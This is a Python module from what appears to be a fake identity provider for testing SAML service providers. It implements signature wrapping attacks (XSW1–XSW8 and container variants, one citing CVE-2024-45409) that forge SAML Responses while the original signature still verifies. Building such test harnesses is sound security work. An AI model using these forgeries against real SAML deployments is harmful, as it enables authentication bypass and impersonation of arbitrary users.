"""Signature wrapping (XSW): the signed original stays valid somewhere, the SP is to read the forged part.

The eight shapes are those of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security
2012), numbered as in SAML Raider. In every shape the original signature still verifies over the original
element. Where both elements are signed, the attacker throws the outer signature away: an unsigned Response may
carry a signed assertion. Where only the Response is signed, the Response is what gets wrapped.
"""

from __future__ import annotations

from collections.abc import Callable

from fake_idp.faults.edit import ASSERTION
from fake_idp.faults.forge import forged_assertion, forged_response
from fake_idp.faults.registry import on, register
from fake_idp.faults.signing import (
    any_signature,
    assertion_signature,
    drop_outer_signature,
    own_signature,
    response_signature,
)
from fake_idp.saml.names import NS_DS, NS_SAML2, NS_SAML2P
from fake_idp.saml.nodes import Element
from fake_idp.saml.pipeline import FaultContext
from fake_idp.saml.signature import remove_signature

PAPER = "Somorovsky et al., On Breaking SAML (USENIX Security 2012)"


Parts = tuple[Element, Element, Element]
"""The forged element, the genuine one with its Signature still in it but out of the tree, and that Signature."""


def forge_around(response: Element, context: FaultContext) -> Parts:
    """Turn the message into a forged one; the caller hides the genuine element somewhere."""
    target = drop_outer_signature(response)
    if target is response:
        return forge_around_response(response, context)
    forged = forged_assertion(target, context)
    response.replace(target, forged)
    return forged, target, target.one("ds:Signature")


def forge_around_response(response: Element, context: FaultContext) -> Parts:
    """Turn the Response itself into a forged one; what it was is the genuine element."""
    genuine = response.copy()
    forged = forged_response(response, context)
    response.attributes, response.children = forged.attributes, forged.children
    signature = own_signature(genuine)
    assert signature is not None  # noqa: S101 - `applies` asks for a signature
    return response, genuine, signature


def after_issuer(element: Element, node: Element) -> None:
    """Put a Signature where a Signature belongs."""
    element.insert(element.index(element.one("saml2:Issuer")) + 1, node)


# -- the whole Response wrapped


@on("signed", "wrap-response-clone", source=f"{PAPER}, XSW1", applies=response_signature)
def xsw1(response: Element, context: FaultContext) -> None:
    """XSW1: a forged Response carries the Signature, and the signed Response stands inside that Signature."""
    _forged, genuine, signature = forge_around_response(response, context)
    remove_signature(genuine)
    signature.append(genuine)
    after_issuer(response, signature)


@on("signed", "wrap-response-clone", source=f"{PAPER}, XSW2", applies=response_signature)
def xsw2(response: Element, context: FaultContext) -> None:
    """XSW2: a forged Response carries the Signature, and the signed Response stands before that Signature."""
    _forged, genuine, signature = forge_around_response(response, context)
    remove_signature(genuine)
    after_issuer(response, signature)
    after_issuer(response, genuine)


# -- the assertion wrapped


@on("signed", "wrap-assertion-sibling", source=f"{PAPER}, XSW3", applies=assertion_signature)
def xsw3(response: Element, context: FaultContext) -> None:
    """XSW3: a forged assertion stands before the signed one."""
    forged, genuine, _signature = forge_around(response, context)
    response.insert_after(forged, genuine)


@on("signed", "wrap-assertion-sibling", source=f"{PAPER}, XSW3", applies=assertion_signature)
def xsw3_swapped(response: Element, context: FaultContext) -> None:
    """XSW3, swapped: a forged assertion stands behind the signed one."""
    forged, genuine, _signature = forge_around(response, context)
    response.insert_before(forged, genuine)


@on("signed", "wrap-assertion-sibling", source=f"{PAPER}, XSW4", applies=assertion_signature)
def xsw4(response: Element, context: FaultContext) -> None:
    """XSW4: the signed assertion is the last child of a forged one."""
    forged, genuine, _signature = forge_around(response, context)
    forged.append(genuine)


@on("signed", "wrap-assertion-sibling", source=f"{PAPER}, XSW4", applies=assertion_signature)
def xsw4_swapped(response: Element, context: FaultContext) -> None:
    """XSW4, swapped: the signed assertion is the first child of a forged one."""
    forged, genuine, _signature = forge_around(response, context)
    forged.insert(0, genuine)


@on("signed", "wrap-signature-moved", source=f"{PAPER}, XSW5", applies=assertion_signature)
def xsw5(response: Element, context: FaultContext) -> None:
    """XSW5: the Signature is in the forged assertion; the signed one follows it, bare."""
    forged, genuine, signature = forge_around(response, context)
    remove_signature(genuine)
    after_issuer(forged, signature)
    response.append(genuine)


@on("signed", "wrap-signature-moved", source=f"{PAPER}, XSW5", applies=assertion_signature)
def xsw5_swapped(response: Element, context: FaultContext) -> None:
    """XSW5, swapped: the Signature is in the forged assertion; the signed one stands before it, bare."""
    forged, genuine, signature = forge_around(response, context)
    remove_signature(genuine)
    after_issuer(forged, signature)
    response.insert_before(forged, genuine)


@on("signed", "wrap-signature-moved", source=f"{PAPER}, XSW6", applies=assertion_signature)
def xsw6(response: Element, context: FaultContext) -> None:
    """XSW6: the Signature is in the forged assertion, and the signed one is inside that Signature."""
    forged, genuine, signature = forge_around(response, context)
    remove_signature(genuine)
    signature.append(genuine)
    after_issuer(forged, signature)


@on("signed", "wrap-container", source=f"{PAPER}, XSW7", applies=assertion_signature)
def xsw7(response: Element, context: FaultContext) -> None:
    """XSW7: a forged assertion with the ID of the signed one stands in Extensions, before the signed one."""
    forged, genuine, _signature = forge_around(response, context)
    forged.set("ID", genuine.get("ID"))
    response.replace(forged, genuine)
    response.insert_before(response.one("saml2p:Status"), _extensions(forged))


@on("signed", "wrap-container", source=f"{PAPER}, XSW8", applies=assertion_signature)
def xsw8(response: Element, context: FaultContext) -> None:
    """XSW8: the Signature is in the forged assertion; a ds:Object in it holds the signed one."""
    forged, genuine, signature = forge_around(response, context)
    remove_signature(genuine)
    signature.append(Element("ds:Object", {"xmlns:ds": NS_DS}, [genuine]))
    after_issuer(forged, signature)


def _extensions(content: Element) -> Element:
    return Element("saml2p:Extensions", {"xmlns:saml2p": NS_SAML2P}, [content])


def hide_in_extensions(
    response: Element, context: FaultContext, *, move_signature: bool = False
) -> tuple[Element, Element]:
    """Forge, and hide the signed element in Extensions, with its Signature or without; (forged, genuine)."""
    forged, genuine, signature = forge_around(response, context)
    if move_signature:
        remove_signature(genuine)
        after_issuer(forged, signature)
    response.insert_before(response.one("saml2p:Status"), _extensions(genuine))
    return forged, genuine


# -- the signed element in any container


def _in_extensions(response: Element, _forged: Element, genuine: Element) -> None:
    response.insert_before(response.one("saml2p:Status"), _extensions(genuine))


def _in_status_detail(response: Element, _forged: Element, genuine: Element) -> None:
    response.one("saml2p:Status").append(Element("saml2p:StatusDetail", {}, [genuine]))


def _forged_assertion_in(forged: Element) -> Element:
    return forged if forged.name == ASSERTION else forged.one(ASSERTION)


def _in_advice(_response: Element, forged: Element, genuine: Element) -> None:
    assertion = _forged_assertion_in(forged)
    advice = Element("saml2:Advice", {"xmlns:saml2": NS_SAML2}, [genuine])
    assertion.insert_after(assertion.one("saml2:Conditions"), advice)


def _in_attribute_value(_response: Element, forged: Element, genuine: Element) -> None:
    value = Element("saml2:AttributeValue", {}, [genuine])
    forged.one("saml2:AttributeStatement").append(Element("saml2:Attribute", {"Name": "container"}, [value]))


def _in_confirmation_data(_response: Element, forged: Element, genuine: Element) -> None:
    forged.one("saml2:SubjectConfirmationData").append(genuine)


_CONTAINERS: dict[str, tuple[str, Callable[[Element, Element, Element], None]]] = {
    "extensions": ("the Extensions of the forged Response", _in_extensions),
    "status-detail": ("a StatusDetail (CVE-2024-45409)", _in_status_detail),
    "advice": ("the Advice of the forged assertion", _in_advice),
    "attribute-value": ("an AttributeValue of the forged assertion", _in_attribute_value),
    "confirmation-data": ("the SubjectConfirmationData of the forged assertion", _in_confirmation_data),
}


def _container(name: str, phrase: str, hide: Callable[[Element, Element, Element], None]) -> None:
    def apply(response: Element, context: FaultContext) -> None:
        forged, genuine, _signature = forge_around(response, context)
        hide(response, forged, genuine)

    def apply_with_signature(response: Element, context: FaultContext) -> None:
        forged, genuine, signature = forge_around(response, context)
        remove_signature(genuine)
        after_issuer(forged, signature)
        hide(response, forged, genuine)

    source = f"SAML Core 5.4.2; {PAPER}"
    register(
        f"wrap-{name}",
        f"The signed element is hidden, with its Signature, in {phrase}.",
        "signed",
        apply,
        "wrap-container",
        source=source,
        applies=any_signature,
    )
    register(
        f"wrap-{name}-signature-moved",
        f"The signed element is hidden in {phrase}; its Signature is in the forged element.",
        "signed",
        apply_with_signature,
        "wrap-container",
        source=source,
        applies=any_signature,
    )


for _name, (_phrase, _hide) in _CONTAINERS.items():
    _container(_name, _phrase, _hide)


def _inside_signature(name: str, wrapper: str, phrase: str, *requirements: str) -> None:
    def apply(response: Element, context: FaultContext) -> None:
        forged, genuine, signature = forge_around(response, context)
        remove_signature(genuine)
        container = signature.find(f"ds:{wrapper}")
        if container is None:
            container = Element(f"ds:{wrapper}")
            signature.append(container)
        container.append(genuine)
        after_issuer(forged, signature)

    register(
        name,
        f"The forged element carries the Signature, and {phrase} in it holds the signed element.",
        "signed",
        apply,
        *requirements,
        source=f"SAML Core 5.4.2; Errata E91; {PAPER}",
        applies=any_signature,
    )


_inside_signature("wrap-object", "Object", "a ds:Object", "wrap-container", "sig-object-child")
_inside_signature("wrap-key-info", "KeyInfo", "the KeyInfo", "wrap-container")
